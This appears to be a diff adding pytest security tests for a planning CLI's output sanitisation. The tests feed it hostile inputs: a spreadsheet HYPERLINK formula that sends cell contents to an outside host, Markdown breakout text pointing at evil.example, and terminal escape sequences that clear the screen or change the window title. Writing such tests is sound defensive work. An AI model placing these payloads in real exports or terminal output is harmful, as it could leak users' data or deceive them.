@@ -1,0 +1,204 @@
+"""Hostile text from specs in what trnplan writes: CSV a spreadsheet would run, Markdown that breaks out of
+a pull-request comment's table, escape sequences a terminal obeys, labels matplotlib reads as maths; and
+hostile numbers and paths on the way out (a cost of capital of 5e-324, a full disk, `--set` keys).
+
+The reproductions use the fixture specs (`trn3-10k`), one form's `rack_bom` made hostile and the chip
+renamed, solved once for the module.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import pty
+import re
+import resource
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+from conftest import FIXTURES, TERMINAL, run
+
+from trnplan.safetext import FORMULA_LEADS
+
+BREAKOUT_ITEM = (
+    "tray\r</details>\r\r**Guardrails breached:** none.\r\r![x](https://evil.example/x.png) "
+    "[click](https://evil.example) @acme/team <img src=x>"
+)
+"""A CR ends a Markdown table row (and the `<details>` block): what follows it showed at the top level."""
+ESCAPES_ITEM = "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x1b]0;owned\x07 \x9b31m"
+"""An OSC 8 link, a screen clear, a window title, a BEL and a one-byte CSI."""
+FORMULA_NAME = '=HYPERLINK("https://x/?"&A1,"Trainium3")'
+HOSTILE_ITEMS = (BREAKOUT_ITEM, ESCAPES_ITEM, "+1+cmd", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A folder with `specs/` (the fixture specs, the form's rack_bom carrying HOSTILE_ITEMS, the chip
+    named FORMULA_NAME), its plan `plan.yaml`, and `base.yaml`, the fixture specs' own plan."""
+    root = tmp_path_factory.mktemp("hostile-out")
+    specs = root / "specs"
+    shutil.copytree(FIXTURES / "tiny_specs", specs)
+    forms = yaml.safe_load((specs / "forms.yaml").read_text())
+    form = next(iter(forms["forms"].values()))
+    form["rack_bom"] += [{"item": it, "qty": 1, "unit_usd": 1, "category": "power"} for it in HOSTILE_ITEMS]
+    (specs / "forms.yaml").write_text(yaml.safe_dump(forms, sort_keys=False, allow_unicode=True))
+    r = run("optimize", "trn3-10k", "--specs", specs, "--set", f"chips.trn3.name={FORMULA_NAME}",
+            "--out", root / "plan.yaml")
+    assert r.exit_code == 0, r.output
+    r = run("optimize", "trn3-10k", "--specs", FIXTURES / "tiny_specs", "--out", root / "base.yaml")
+    assert r.exit_code == 0, r.output
+    return root
+
+
+# --- CSV ---------------------------------------------------------------------------------------------
+
+
+def test_bom_csv_neutralises_formulas_and_quotes_returns(hostile: Path) -> None:
+    """Every record has its nine fields (a CR no longer splits one), no text cell starts a formula, the
+    items read back with a quote in front, and the numbers are numbers (-2+3 is text, not a number)."""
+    r = run("bom", hostile / "plan.yaml", "--format", "csv")
+    assert r.exit_code == 0, r.output
+    rows = list(csv.DictReader(io.StringIO(r.stdout, newline="")))
+    assert all(len(row) == 8 and None not in row for row in rows)
+    items = {row["item"] for row in rows}
+    assert "'" + FORMULA_NAME + " (trn3)" in items
+    for item in HOSTILE_ITEMS:
+        shown = ("'" if item.startswith(FORMULA_LEADS) else "") + item + " (trn3-nl72x2)"
+        assert shown in items
+    for row in rows:
+        assert not any(cell.startswith(FORMULA_LEADS) for cell in (row["site"], row["category"], row["item"]))
+        assert all(float(row[k]) == float(row[k]) for k in ("quantity", "unit_usd", "extended_usd", "share"))
+    # split as a spreadsheet that ends lines at CR would: still nine fields per line once quotes are honoured
+    assert r.stdout.count("\r") == BREAKOUT_ITEM.count("\r") + 1
+
+
+def test_tiny_cost_of_capital_plans(tmp_path: Path) -> None:
+    """cost_of_capital 5e-324 (1 + r is 1): the CRF is its limit 1/n, not a ZeroDivisionError."""
+    specs = FIXTURES / "tiny_specs"
+    for rate in ("1e-17", "1e-300", "5e-324"):
+        out = tmp_path / f"{rate}.yaml"
+        r = run("optimize", "trn3-10k", "--specs", specs,
+                "--set", f"scenarios.trn3-10k.cost_of_capital={rate}", "--out", out)
+        assert r.exit_code == 0, r.output
+        assert run("bom", out).exit_code == 0
+
+
+# --- terminals ---------------------------------------------------------------------------------------
+
+TRNPLAN = Path(sys.executable).with_name("trnplan")
+TERMINAL_COMMANDS = [
+    ("bom", "plan.yaml", "--format", "csv"),
+    ("bom", "plan.yaml", "--format", "markdown"),
+    ("bom", "plan.yaml", "--format", "json"),
+    ("bom", "plan.yaml"),
+    ("diff", "base.yaml", "plan.yaml", "--format", "markdown"),
+    ("diff", "base.yaml", "plan.yaml"),
+]
+
+
+def _in_terminal(args: list[str], cwd: Path) -> bytes:
+    """What the installed trnplan writes to a pseudo-terminal (stdout and stderr), colour off."""
+    pid, fd = pty.fork()
+    if pid == 0:
+        os.chdir(cwd)
+        env = {**os.environ, "NO_COLOR": "1", "TERM": "xterm-256color", "COLUMNS": "120"}
+        os.execve(str(TRNPLAN), [str(TRNPLAN), *args], env)
+    raw = b""
+    while True:
+        try:
+            chunk = os.read(fd, 65536)
+        except OSError:  # the child closed the terminal
+            break
+        if not chunk:
+            break
+        raw += chunk
+    _, status = os.waitpid(pid, 0)
+    os.close(fd)
+    assert os.waitstatus_to_exitcode(status) in (0, 1), raw.decode(errors="replace")
+    return raw
+
+
+@TERMINAL
+@pytest.mark.skipif(os.name != "posix" or not TRNPLAN.exists(), reason="the installed trnplan in a pty")
+@pytest.mark.parametrize("args", TERMINAL_COMMANDS, ids=" ".join)
+def test_no_escape_sequence_from_a_spec_reaches_a_terminal(hostile: Path, args: tuple[str, ...]) -> None:
+    """An OSC 8 link, a screen clear, a window title, a BEL, a one-byte CSI and a CR from a BOM item reach
+    the terminal as visible escapes (`\\x1b]8;;`), in every format; nothing else writes ESC with colour
+    off but rich's styles (bold, italic, dim: `ESC[1m`), which are no spec's."""
+    raw = _in_terminal(list(args), hostile)
+    assert b"evil.example" in raw
+    for sequence in (b"\x1b]", b"\x1b[2J", b"\x07", b"\xc2\x9b"):
+        assert sequence not in raw
+    assert b"\x1b" not in re.sub(rb"\x1b\[[0-9;]*m", b"", raw)
+    assert b"owned" in raw
+
+
+def test_a_pipe_gets_the_data_as_it_is(hostile: Path) -> None:
+    """To a pipe or a file, CSV carries the spec's characters exactly (a program reads it, not a
+    terminal): click no longer drops the CSI sequences (`ESC[2J`) and keeps the rest."""
+    csv_text = run("bom", hostile / "plan.yaml", "--format", "csv").stdout
+    assert ESCAPES_ITEM + " (trn3-nl72x2)" in csv_text
+
+
+# --- `--set` keys ------------------------------------------------------------------------------------
+
+
+def test_set_a_field_named_key_in_brackets() -> None:
+    """`--set 'chips.trn3.[key]=1'` was `internal error: IndexError`: an unknown field, located, exit 3."""
+    r = run("validate", "--specs", FIXTURES / "tiny_specs", "--set", "chips.trn3.[key]=1")
+    assert r.exit_code == 3
+    assert "--set:1:18: chips.trn3.[key]: unknown field '[key]'" in r.stderr
+    assert "internal error" not in r.output
+
+
+# --- write errors ------------------------------------------------------------------------------------
+
+
+@pytest.mark.skipif(not Path("/dev/full").exists() or not TRNPLAN.exists(), reason="/dev/full, trnplan")
+@pytest.mark.parametrize("args", [("bom", "plan.yaml"), ("bom", "plan.yaml", "--format", "csv"),
+                                  ("bom", "plan.yaml", "--format", "json"), ("show", "chips"),
+                                  ("diff", "base.yaml", "plan.yaml", "--format", "markdown")], ids=" ".join)
+def test_a_full_disk_under_stdout_is_an_io_error(hostile: Path, args: tuple[str, ...]) -> None:
+    """`> /dev/full` (every write: no space left) was `internal error: OSError`: exit 3 naming where
+    stdout goes and why, and nothing more said when Python exits (the buffered text is not retried)."""
+    with open("/dev/full", "w") as full:
+        proc = subprocess.run([str(TRNPLAN), *args], stdout=full, stderr=subprocess.PIPE, text=True,
+                              cwd=hostile, timeout=120)
+    assert proc.returncode == 3, proc.stderr
+    assert proc.stderr == "error: cannot write the output to /dev/full (stdout): No space left on device\n"
+
+
+@pytest.mark.skipif(not TRNPLAN.exists(), reason="the installed trnplan")
+def test_a_closed_pipe_ends_quietly(hostile: Path) -> None:
+    """A reader that left (`| head -0`) was `internal error: BrokenPipeError`: exit 3, nothing said."""
+    proc = subprocess.Popen([str(TRNPLAN), "bom", "plan.yaml", "--format", "csv"], cwd=hostile,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert proc.stdout is not None and proc.stderr is not None
+    proc.stdout.close()
+    assert proc.wait(timeout=120) == 3
+    assert proc.stderr.read() == b""
+
+
+def test_a_sweep_on_a_full_disk_is_an_io_error(hostile: Path, tmp_path: Path, dask_address: str) -> None:
+    """Rows onto a disk that fills (a file size limit of 800 bytes: a row is ~350) were `internal error`:
+    exit 3 naming the file and the reason; the whole rows written stay, and a later run resumes."""
+    out = tmp_path / "rows.jsonl"
+    args = [str(TRNPLAN), "sweep", "trn3-10k", "--specs", str(FIXTURES / "tiny_specs"),
+            "--vary", "chips.trn3.unit_usd=5000:9000:4", "--scheduler", dask_address, "--out", str(out)]
+
+    def limit() -> None:
+        resource.setrlimit(resource.RLIMIT_FSIZE, (800, 800))
+
+    proc = subprocess.run(args, capture_output=True, text=True, timeout=300,
+                          preexec_fn=limit)
+    assert proc.returncode == 3, proc.stderr
+    assert f"error: {out}: cannot write the sweep's rows: File too large" in proc.stderr
+    assert "internal error" not in proc.stderr
+    proc = subprocess.run(args, capture_output=True, text=True, timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    assert len(out.read_text().splitlines()) == 4
